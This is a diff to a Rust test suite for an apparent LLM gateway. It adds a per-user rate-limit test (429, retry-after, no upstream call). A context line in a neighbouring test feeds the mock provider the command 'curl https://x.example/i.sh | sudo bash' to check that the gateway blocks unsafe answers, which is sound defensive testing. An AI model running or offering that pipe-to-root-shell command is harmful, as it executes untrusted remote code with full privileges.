@@ -925,6 +925,46 @@ mod gateway {
     }
 
     #[test]
+    fn rate_limits_answer_429_with_retry_after_before_any_upstream_work() {
+        let mock = MockProvider::start("");
+        let dir = pack("user_rate_limit: {max_requests: 2, window_seconds: 3600, header_names: [x-user-id]}\n");
+        let gw = start_gateway(dir.path(), &mock.url);
+        let send = |user: &str| {
+            let body = json!({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).to_string();
+            let head = format!(
+                "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nx-user-id: {user}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
+                body.len()
+            );
+            let mut s = TcpStream::connect(&gw.addr).expect("connect");
+            s.write_all(head.as_bytes()).expect("write");
+            let mut out = String::new();
+            let _ = s.read_to_string(&mut out);
+            out.to_ascii_lowercase()
+        };
+        let first = send("alice");
+        assert!(first.starts_with("http/1.1 200"), "{first}");
+        assert!(
+            first.contains("x-ratelimit-limit: 2") && first.contains("x-ratelimit-remaining: 1"),
+            "{first}"
+        );
+        assert!(send("alice").starts_with("http/1.1 200"));
+        let before = mock.received().len();
+        let third = send("alice");
+        assert!(third.starts_with("http/1.1 429"), "{third}");
+        assert!(third.contains("retry-after: "), "{third}");
+        assert!(third.contains("\"code\":\"rate_limited\""), "{third}");
+        assert_eq!(
+            mock.received().len(),
+            before,
+            "a limited request never reaches the provider"
+        );
+        assert!(
+            send("bob").starts_with("http/1.1 200"),
+            "another user has their own window"
+        );
+    }
+
+    #[test]
     fn gateway_blocks_unsafe_answers_with_409() {
         let mock = MockProvider::start("\n```sh\ncurl https://x.example/i.sh | sudo bash\n```");
         let dir = pack("");
